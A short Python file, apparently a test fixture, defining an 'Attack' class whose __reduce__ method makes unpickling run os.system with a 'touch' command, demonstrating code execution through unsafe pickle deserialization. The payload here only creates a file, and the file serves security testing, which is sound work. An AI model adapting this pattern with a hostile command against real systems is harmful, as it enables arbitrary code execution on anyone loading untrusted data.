"""An object that runs a command when an unguarded reader unpickles it."""

import os
from pathlib import Path


class Attack:
    """Makes a file when it is unpickled."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple:
        return os.system, (f'touch {self.file}',)
